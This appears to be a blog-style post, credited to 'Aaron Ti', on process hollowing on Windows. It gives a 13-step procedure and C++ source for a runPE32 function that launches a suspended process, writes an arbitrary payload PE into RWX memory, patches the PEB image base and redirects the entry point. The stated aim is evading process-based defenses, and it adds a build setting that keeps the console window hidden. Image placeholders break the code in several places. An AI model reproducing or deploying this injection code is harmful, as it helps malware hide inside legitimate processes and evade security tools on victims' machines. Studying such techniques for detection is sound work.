[ No 7  ]


Injection of code into suspended and hollowed processes in order to evade process-based defenses


06 AUGUST 2020


> cmake .To show(1)/hide(2) console window when running executable:

- Properties
  - Linker
    - System
      - SubSystem:
    - Advanced
      - Entry Point
    1. (BLANK)
    2. mainCRTStartup

Default: hidden1. Create and suspend target process
  2. Get thread context of target process
  3. Get image base of target process
  4. Unmap target process memory space (Optional)5. Allocate temporary memory space for custom payload
  6. Change image base for symbolic imports
  7. Store payload in allocated temporary memory space
  8. Ensure image base of process is the same
  9.Overwrite target process memory space with payload
  10. Free allocated temporary memory space
  11. Overwrite image base in headers
  12. Set new Entrypoint
  13. Resume target process
    targetPath - application where we wantto inject
    payload - buffer with raw image of PE that we want to inject
    payload_size - size of the above

    desiredBase - address where we want to map the payload in the target memory; NULL if we don't care.
        This address will be ignored if the payload has no relocations table, because then it must be mapped to it's original ImageBase.
    unmap_target - do we want to unmap the target? (we are not forced to do it if it doesn't disturb our chosen base)
bool runPE32(LPWSTR targetPath, BYTE* payload, SIZE_T payload_size, ULONGLONG desiredBase = NULL, bool unmap_target = false)

    //Load payload:
    IMAGE_NT_HEADERS32* payload_nt_hdr32 = get_nt_hrds32(payload);
    const ULONGLONG oldImageBase = payload_nt_hdr32->OptionalHeader.ImageBase;
    SIZE_T payloadImageSize = payload_nt_hdr32->OptionalHeader.SizeOfImage;

    //create target process:
    create_new_process1(targetPath, pi);

    //get initial context of the target:
    memset(&context, 0, sizeof(WOW64_CONTEXT));
    context.ContextFlags = CONTEXT_INTEGER;Wow64GetThreadContext(pi.hThread, &context);

    //get image base of the target:
    DWORD PEB_addr = context.Ebx;
    ReadProcessMemory(pi.hProcess, LPVOID(PEB_addr + 8), &targetImageBase, sizeof(DWORD), NULL);

    //try to allocate space that will be the most suitable for the payload:
    LPVOID remoteAddress = VirtualAllocEx(pi.hProcess, (LPVOID)desiredBase, payloadImageSize, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);

    //change the image base saved in headers - this is very important for loading imports:payload_nt_hdr32->OptionalHeader.ImageBase = static_cast<DWORD>((ULONGLONG)remoteAddress);

    //Prepare the payload image in the local memory, then copy it into the space reserved in the target process
    LPVOID localCopyAddress = VirtualAlloc(NULL, payloadImageSize, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    copy_pe_to_virtual_l(payload, payload_size, localCopyAddress);

    //if the base address of the payload changed, we need to apply relocations:
    if ((ULONGLONG)remoteAddress != oldImageBase) {
        apply_relocations((ULONGLONG)remoteAddress, oldImageBase, localCopyAddress);

    SIZE_T written = 0;
    // paste the local copy of theprepared image into the reserved space inside the remote process:
    WriteProcessMemory(pi.hProcess, remoteAddress, localCopyAddress, payloadImageSize, &written);

    //free the localy allocated copy
    VirtualFree(localCopyAddress, payloadImageSize, MEM_FREE);

    //overwrite ImageBase stored in PEB
    DWORD remoteAddr32b = static_cast<DWORD>((ULONGLONG)remoteAddress);
    WriteProcessMemory(pi.hProcess, LPVOID(PEB_addr + 8), &remoteAddr32b, sizeof(DWORD), &written);

    //overwrite context: set new Entry Point
    DWORDnewEP = static_cast<DWORD>((ULONGLONG)remoteAddress +payload_nt_hdr32->OptionalHeader.AddressOfEntryPoint);
    context.Eax = newEP;Wow64SetThreadContext(pi.hThread,&context);

    //start the injected:
    return true;


by Aaron Ti